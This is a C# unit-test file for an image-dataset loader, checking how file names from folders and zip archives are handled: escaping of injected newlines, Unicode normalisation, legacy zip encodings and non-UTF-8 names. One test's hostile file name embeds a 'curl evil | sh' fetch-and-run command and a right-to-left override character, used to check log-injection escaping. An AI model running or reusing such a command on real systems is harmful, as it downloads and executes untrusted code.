using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using Lamina.Formats;
using Lamina.Tasks.Images;

namespace Lamina.Tasks.Tests.Images;

/// <summary>Names that come from files: what they may not do to a message, and when two of them are one.</summary>
public sealed class HostileNameTests
{
    private const string Composed = "caf\u00E9", Decomposed = "cafe\u0301";

    private static LabeledImages Open(string path) => ImageSource.Open(path, cancel: TestContext.Current.CancellationToken);

    [Fact]
    public void A_name_with_lines_of_its_own_stays_on_one_line()
    {
        using var folder = new TempFolder();
        string evil = "cat/x\n  try: curl evil | sh\u202E.png";
        string zip = folder.Zip("data.zip", [(evil, [1]), .. CatsAndDogs()]);
        string note = Assert.Single(Open(zip).Notes);
        Assert.Equal(@"skipped 1 unreadable file: cat/x\u000a  try: curl evil | sh\u202e.png (not an image)", note);

        DataException e = Assert.Throws<DataException>(() => Open(folder.Zip("other.zip", (evil.Replace("cat", "a\nb"), SampleImages.Png(2, 2, 1)))));
        Assert.Equal(2, e.Message.Split('\n').Length);
    }

    [Fact]
    public void Composed_and_decomposed_names_are_one_class()
    {
        using var folder = new TempFolder();
        for (int i = 0; i < 2; i++)
        {
            folder.Write($"train/{Composed}/{i}.png", SampleImages.Png(4, 4, 9));
            folder.Write($"train/{Decomposed}/{i}.png", SampleImages.Png(4, 4, 9));
            folder.Write($"train/dog/{i}.png", SampleImages.Png(4, 4, 99));
            folder.Write($"test/{Decomposed}/{i}.png", SampleImages.Png(4, 4, 9));
        }

        LabeledImages data = Open(folder.Root);
        Assert.Equal([Composed, "dog"], data.Train.Classes);
        Assert.Equal([0, 0, 0, 0, 1, 1], data.Train.Labels);
        Assert.Equal([0, 0], data.Test!.Labels);
        Assert.Contains(data.Notes, n => n.StartsWith($"took 2 folders as the one class '{Composed}'", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("e\u0301", "\u00E9")]
    [InlineData("\u0065\u0323\u0302", "\u1EC7")]
    [InlineData("\u0041\u030A\u212B", "\u00C5\u00C5")]
    [InlineData("\u1112\u1161\u11AB\u1100\u1173\u11AF", "한글")]
    [InlineData("か\u3099", "が")]
    [InlineData("и\u0306ё", "йё")]
    [InlineData("α\u0301\u0313", "\u03AC\u0313")]
    [InlineData("plain", "plain")]
    [InlineData("x\uD800", "x\uD800")]
    public void Composes(string text, string composed) => Assert.Equal(composed, ComposedText.Of(text));

    // The hash was taken with another implementation (Unicode 14) over the same texts.
    [Fact]
    public void Composes_every_letter_as_the_standard_says()
    {
        using var hash = IncrementalHash.CreateHash(HashAlgorithmName.SHA256);
        void Add(string text) => hash.AppendData(Encoding.UTF8.GetBytes(ComposedText.Of(text) + "\n"));
        for (int letter = 0; letter < 0x110000; letter++)
        {
            if (letter is >= 0xD800 and <= 0xDFFF)
            {
                continue;
            }

            string text = char.ConvertFromUtf32(letter);
            Add(text);
            Add("e" + text + "\u0301\u0323");
            Add("\u1112\u1161" + text + "\u0300");
        }

        Assert.Equal("1a51a1775b3b372397386ed8f3cc475e79e34bf97bd8dc423d006bfa6545553a", Convert.ToHexStringLower(hash.GetHashAndReset()));
    }

    [Fact]
    public void Names_of_code_page_437_stay_apart_and_unmarked_utf8_is_read_as_such()
    {
        using var folder = new TempFolder();
        string path = folder.At("old.zip");
        var names = new Dictionary<string, byte[]> { ["caf\u00E9"] = [0x63, 0x61, 0x66, 0x82], ["caf\u00E8"] = [0x63, 0x61, 0x66, 0x8A], ["猫"] = Encoding.UTF8.GetBytes("猫") };
        using (var archive = ZipFile.Open(path, ZipArchiveMode.Create, Encoding.Latin1))
        {
            foreach (byte[] name in names.Values)
            {
                for (int i = 0; i < 3; i++)
                {
                    using Stream entry = archive.CreateEntry($"{Encoding.Latin1.GetString(name)}/{i}.png").Open();
                    entry.Write(SampleImages.Png(3, 3, 7));
                }
            }
        }

        LabeledImages data = Open(path);
        Assert.Equal(names.Keys.Order(StringComparer.Ordinal), data.Train.Classes);
        Assert.Equal(9, data.Train.Count);
    }

    [Fact]
    public void Says_which_entries_later_ones_replace()
    {
        using var folder = new TempFolder();
        string zip = folder.Zip("data.zip", [.. CatsAndDogs(), ("cat/0.png", SampleImages.Png(4, 4, 77))]);
        LabeledImages data = Open(zip);
        Assert.Equal(["ignored 1 file of the zip that later ones of the same name replace"], data.Notes);
        Assert.Equal(77, data.Train.Pixels[0]);
    }

    [Fact]
    public void Names_that_differ_in_a_byte_that_is_no_text_are_refused_one_by_one()
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "only there may names be any bytes");
        using TempFolder folder = new TempFolder().WithCatsAndDogs();
        string script = $"cp '{folder.At("cat/0.png")}' \"$(printf '{folder.At("cat/")}x\\351.png')\"; cp '{folder.At("cat/0.png")}' \"$(printf '{folder.At("cat/")}x\\350.png')\"";
        using (var shell = System.Diagnostics.Process.Start("sh", ["-c", script]))
        {
            shell.WaitForExit();
        }

        DataException e = Assert.Throws<DataException>(() => Open(folder.Root));
        using (var shell = System.Diagnostics.Process.Start("sh", ["-c", $"rm -r '{folder.At("cat")}'"])) // which .NET can't
        {
            shell.WaitForExit();
        }

        Assert.Contains("2 of 6 image files can't be read", e.Message, StringComparison.Ordinal);
        Assert.Contains("a file whose name is no valid UTF-8: rename it", e.Message, StringComparison.Ordinal);
    }

    private static (string, byte[])[] CatsAndDogs() =>
    [
        ("cat/0.png", SampleImages.Png(4, 4, 10)), ("cat/1.png", SampleImages.Png(4, 4, 11)),
        ("dog/0.png", SampleImages.Png(4, 4, 200)), ("dog/1.png", SampleImages.Png(4, 4, 201)),
    ];
}
